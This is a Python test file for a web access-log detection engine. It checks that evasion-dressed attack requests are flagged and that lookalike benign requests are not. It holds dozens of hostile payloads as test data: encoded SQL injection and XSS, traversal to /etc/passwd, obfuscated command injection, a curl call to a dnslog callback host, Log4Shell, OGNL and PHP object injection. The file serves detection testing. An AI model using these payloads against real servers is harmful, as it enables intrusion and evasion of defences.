"""Attacks dressed to slip past signatures are still found by the shipped pack.

Each request carries one well-known evasion (an encoding layer, an escape a web server writes, a
stray byte, comments or odd blanks between keywords, quotes or wildcards inside a shell command) and
must be flagged by a rule of the class it belongs to. The lines go through the real combined-format
parser and the engine, decoding included, as a night's access logs do. Several of these were missed
until the decoding or the rule they name was fixed (noted beside them).
"""

from __future__ import annotations

import pytest

from secaware.detect.engine import ROW, match
from secaware.detect.rules import compile_rules
from secaware.schema import EVENTS, conform
from tests.conftest import ROOT, parse_frame

#: (request target, a word of the title of a rule that must flag it)
EVASIONS = [
    # SQL injection
    ("/?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201,2", "UNION SELECT"),
    ("/?id=1%0bunion%0bselect%0b1", "UNION SELECT"),
    ("/?id=1%20union--%0aselect%201", "UNION SELECT"),
    ("/?id=1e0union%20select%201", "UNION SELECT"),
    ("/?id=1%2520union%2520select%25201,2", "UNION SELECT"),  # double encoding
    ("/?id=1%a0union%a0select%a0password%a0from%a0users", "UNION SELECT"),  # stray byte (was ?nion?elect)
    ("/?id=1%df%27%20union%20select%201", "UNION SELECT"),  # GBK wide-byte quote
    ("/?id=1%EF%BC%87%20or%201=1--", "SQL injection"),  # fullwidth apostrophe
    ("/?id=(select*from(select(sleep(5)))a)", "time-delay"),
    ("/?q=%2527%2520OR%25201%253D1", "SQL injection"),
    # cross-site scripting
    ("/?q=<ScRiPt>alert(1)</sCrIpT>", "Cross-site scripting"),
    ("/?q=%3Csvg%0Aonload%0A=%0Aalert(1)%3E", "Cross-site scripting"),
    ("/?q=%u003cscript%u003ealert(1)%u003c/script%u003e", "Cross-site scripting"),  # IIS %u
    ("/?x=%26%2360%3Bscript%26%2362%3B", "Cross-site scripting"),  # entities under percent-encoding
    ("/?x=\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "Cross-site scripting"),  # nginx \\xHH
    ("/?q=%3Ca%20href=%22jav%09ascript:alert(1)%22%3E", "Cross-site scripting"),
    # path traversal and file inclusion
    ("/..%c0%af..%c0%afetc/passwd", "File disclosure"),  # overlong UTF-8
    ("/..%u2215..%u2215etc/passwd", "Path traversal"),
    ("/?x=%25252e%25252e%25252f", "Path traversal"),  # three layers
    ("/?file=....//....//etc/passwd", "Path traversal"),
    ("/?file=..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd", "Path traversal"),  # fullwidth solidus
    ("/?page=php://filter/convert.base64-encode/resource=index.php", "File inclusion"),
    # command injection
    ("/?cmd=;cat$IFS/etc/passwd", "Command injection"),
    ("/?ip=127.0.0.1%3Bc%27a%27t%20/e%27t%27c/pa%27s%27swd", "Command injection"),  # quotes (was missed)
    ("/?ip=127.0.0.1%3B/bin/c%3Ft%20/et%3F/passw%3F", "Command injection"),  # wildcards (was missed)
    ("/?ip=127.0.0.1%7C%7Cw%5Cho%5Cam%5Ci", "Command injection"),  # backslashes (was missed)
    ("/?cmd=%24(curl%20x.dnslog.cn)", "Command injection"),
    # injection into templates, expression languages, objects
    ("/?q=%7B%7B7*7%7D%7D", "template injection"),
    ("/?x=${jndi:${lower:l}${lower:d}ap://x}", "Log4Shell"),
    ("/struts2-showcase/%25%7b(%23dm%3d%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS)%7d", "OGNL"),
    ("/?x=O:8:\\\"stdClass\\\":0:{}", "object injection"),  # Apache's \" (was missed: no PHP rule)
    ("/?x=O:8:\\x22stdClass\\x22:0:{}", "object injection"),  # nginx's \x22
]


@pytest.fixture(scope="module")
def flagged() -> dict[int, list[str]]:
    lines = [f'61.178.1.{i % 250 + 1} - - [28/Nov/2026:10:00:{i % 60:02d} +0800] "GET {target} HTTP/1.1" 200 10 '
             f'"-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"' for i, (target, _) in enumerate(EVASIONS)]
    parsed = parse_frame("combined", lines)
    assert parsed["_reject"].null_count() == parsed.height
    events = conform(parsed, EVENTS).collect()
    rules = [r for r in compile_rules([ROOT / "rules"]).rules if r.output]
    hits = match(events, rules)
    by_line: dict[int, list[str]] = {}
    for row, rule in hits.select(ROW, "rule").iter_rows():
        by_line.setdefault(events["line_no"][row], []).append(rules[rule].title)
    return by_line


@pytest.mark.parametrize(("index", "target", "kind"), [(i, t, k) for i, (t, k) in enumerate(EVASIONS)],
                         ids=[t[:40] for t, _ in EVASIONS])
def test_an_evasive_attack_is_flagged_by_a_rule_of_its_class(flagged: dict[int, list[str]], index: int,
                                                             target: str, kind: str) -> None:
    titles = flagged.get(index + 1, [])
    assert any(kind.lower() in title.lower() for title in titles), (target, titles)


def test_benign_requests_like_them_are_not_flagged() -> None:
    """The same shapes without the attack: escapes, stray bytes, Chinese search terms in GBK."""
    benign = ["/search?q=%E5%85%B0%E5%B7%9E%E5%B8%82", "/search?kw=%C0%BC%D6%DD&page=2",
              "/news/2026/11/index.html?from=%a0home", "/api/list?filter=%7B%22dept%22:%7B%22id%22:12%7D%7D",
              "/bsfw/yy?o=8:30&c=2:00", "/download.jsp?file=report_2026.pdf&name=%E6%8A%A5%E5%91%8A"]
    lines = [f'61.178.2.{i + 1} - - [28/Nov/2026:10:00:0{i} +0800] "GET {t} HTTP/1.1" 200 10 "-" '
             f'"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"' for i, t in enumerate(benign)]
    events = conform(parse_frame("combined", lines), EVENTS).collect()
    rules = [r for r in compile_rules([ROOT / "rules"]).rules if r.output]
    hits = match(events, rules)
    found = [(events["url_query"][r], rules[k].title) for r, k in hits.select(ROW, "rule").iter_rows()]
    assert events.height == len(benign) and found == []
